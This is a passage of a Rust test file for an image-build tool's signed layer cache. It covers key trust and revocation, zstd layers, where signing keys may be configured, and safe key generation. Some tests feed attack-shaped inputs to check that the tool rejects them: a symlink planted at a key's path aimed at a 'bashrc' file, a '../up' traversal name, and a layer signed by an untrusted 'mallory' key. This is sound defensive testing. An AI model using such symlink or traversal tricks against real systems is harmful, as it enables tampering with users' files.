    replaced(
        "zookeeper",
        &format!("layer {}, signed by `mallory`, not trusted here", hostile["layers"][0]["digest"].as_str().unwrap()),
    );
    replaced("kafka", "no entry");
    assert!(text.contains("0 layer(s) pulled, 2 pushed, 0 missing, 0 refused, 0 not trusted, 2 replaced"), "{text}");
    assert_eq!(cache.record(&zookeeper), honest_zookeeper, "the same signed record as before");

    // A key no longer trusted revokes what it signed: the JDK layer store-b pulled is not used.
    let out = build_human(&p, cached(&p, &second, &cache, As::Trusting(&[])), "b4.tar");
    assert_ok(&out);
    let text = stderr(&out);
    assert_eq!(text.matches("not using its entries signed by `team`, a key not trusted here").count(), 1, "{text}");
    assert!(text.contains("0 layer(s) pulled, 0 pushed, 0 missing, 0 refused, 1 not trusted, 0 replaced"), "{text}");
    same_file(&p.path("a.tar"), &p.path("b4.tar"));
}

#[test]
fn zstd_layers_go_through_the_cache() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let zstd_build = |store: &Path, who: As, out: &str| {
        let mut c = cached(&p, store, &cache, who);
        c.args(["--json", "build", "--compression", "zstd", "--format", "oci-archive", "--out"]).arg(p.path(out));
        json(&c.output().unwrap())
    };
    let a = zstd_build(&new_store(&p, "store-a"), As::Member, "a.tar");
    assert_eq!(counts(&a)[1], 3, "{a}");
    for (tag, _) in cache.records() {
        assert_eq!(cache.record(&tag)["layers"][0]["mediaType"], "application/vnd.oci.image.layer.v1.tar+zstd");
    }
    let b = zstd_build(&new_store(&p, "store-b"), As::Trusting(&[&cache.team.public]), "b.tar");
    assert_eq!((layers_built(&b), counts(&b)), (0, [3, 0, 0, 0, 0, 0]), "{b}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
}

#[test]
fn keys_come_from_the_project_file_and_the_users_config_file() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let cache_only = |store: &Path| {
        let mut c = on_store(&p, store);
        c.args(["--cache", &cache.repo, "--insecure-registry", &cache.registry.host()]);
        c
    };
    // The user's config file names the secret key, relative to itself.
    let first = new_store(&p, "store-a");
    let config_dir = first.with_extension("home").join(".config/imgbuild");
    std::fs::create_dir_all(&config_dir).unwrap();
    std::fs::copy(&cache.team.secret, config_dir.join("team.secret")).unwrap();
    std::fs::write(config_dir.join("config.toml"), "[cache]\nsigning-key = \"team.secret\"\n").unwrap();
    let a = json(&build_with(&p, cache_only(&first), "a.tar"));
    assert_eq!(counts(&a)[1], 3, "{a}");
    // The project's imgbuild.toml names the key the team trusts.
    let project_file = p.root.join("imgbuild.toml");
    std::fs::write(&project_file, format!("[cache]\ntrusted-keys = [\"{}\"]\n", cache.team.public)).unwrap();
    let b = json(&build_with(&p, cache_only(&new_store(&p, "store-b")), "b.tar"));
    assert_eq!((layers_built(&b), counts(&b)[0]), (0, 3), "{b}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
    // A project never chooses what signs your pushes.
    std::fs::write(&project_file, "[cache]\nsigning-key = \"/somewhere/team.secret\"\n").unwrap();
    let out = build_human(&p, cache_only(&new_store(&p, "store-c")), "c.tar");
    assert_exit(&out, 1);
    assert!(stderr(&out).contains("imgbuild.toml:2") && stderr(&out).contains("signing-key"), "{}", stderr(&out));
}

#[test]
fn cache_key_generate_writes_a_private_secret_never_over_a_file_or_through_a_link() {
    use std::os::unix::fs::PermissionsExt;
    let p = TestProject::new();
    let dir = p.path("keys");
    let generate = |name: &str| p.cmd().args(["cache", "key", "generate", name, "--dir"]).arg(&dir).output().unwrap();
    let out = generate("team-1");
    assert_ok(&out);
    let secret = std::fs::read_to_string(dir.join("team-1.secret")).unwrap();
    let secret_b64 = secret.trim().split_once(':').unwrap().1;
    assert_eq!(std::fs::metadata(dir.join("team-1.secret")).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(!String::from_utf8_lossy(&out.stdout).contains(secret_b64) && !stderr(&out).contains(secret_b64));
    // Never over an existing key.
    let again = generate("team-1");
    assert_exit(&again, 2);
    assert!(stderr(&again).contains("never overwritten"), "{}", stderr(&again));
    assert_eq!(std::fs::read_to_string(dir.join("team-1.secret")).unwrap(), secret);
    // Never through a link planted at its name.
    let victim = p.path("bashrc");
    std::fs::write(&victim, "kept\n").unwrap();
    std::os::unix::fs::symlink(&victim, dir.join("planted.secret")).unwrap();
    assert_exit(&generate("planted"), 2);
    std::fs::remove_file(dir.join("planted.secret")).unwrap();
    std::os::unix::fs::symlink(&victim, dir.join("planted.public")).unwrap();
    assert_exit(&generate("planted"), 2);
    assert!(!dir.join("planted.secret").exists(), "no secret is left without its public key");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept\n");
    // A name a signature could not carry.
    assert_exit(&generate("team:1"), 2);
    assert_exit(&generate("../up"), 2);
}
